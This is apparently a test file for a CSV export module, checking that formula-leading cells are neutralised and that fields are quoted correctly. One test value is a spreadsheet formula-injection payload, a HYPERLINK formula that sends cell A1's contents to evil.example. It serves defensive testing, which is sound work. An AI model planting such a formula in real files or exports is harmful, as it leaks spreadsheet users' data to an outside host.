import { FORMULA_START, csvField, csvSheet } from "../commands/csv";

describe("cells of a sheet a spreadsheet opens", () => {
  test.each(["=", "+", "-", "@", "\t", "\r"])("a cell starting with %j is text, not a formula", (start) => {
    const value = `${start}HYPERLINK("https://evil.example/?x="&A1,"click")`;
    expect(FORMULA_START.test(value)).toBe(true);
    expect(csvField(value)).toBe(`"'${value.replace(/"/g, '""')}"`);
  });

  test.each([
    ["Ada", "Ada"],
    ["Hopper, Grace", '"Hopper, Grace"'],
    ['Ada "the first"', '"Ada ""the first"""'],
    ["O'Brien", "O'Brien"],
    ["Ada=Lovelace", "Ada=Lovelace"],
    ["", ""],
  ])("%j is written as %s", (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  test("a sheet has CRLF line ends and every cell neutralised", () => {
    expect(
      csvSheet([
        ["student", "name"],
        ["ada@example.org", "=1+1"],
      ]),
    ).toBe('student,name\r\nada@example.org,"\'=1+1"\r\n');
  });
});
